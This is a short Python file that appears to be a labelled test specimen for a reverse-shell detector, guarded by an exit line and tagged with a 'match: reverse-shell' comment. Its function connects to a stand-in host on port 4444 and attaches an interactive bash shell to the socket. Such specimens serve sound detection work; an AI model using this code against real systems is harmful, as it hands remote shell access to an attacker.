raise SystemExit("specimen: not to be run")
import socket as s
from subprocess import Popen as start

def begin():
    line = s.create_connection(("example.invalid", 4444))
    start(["/bin/bash", "-i"], stdin=line, stdout=line, stderr=line)  # match: reverse-shell
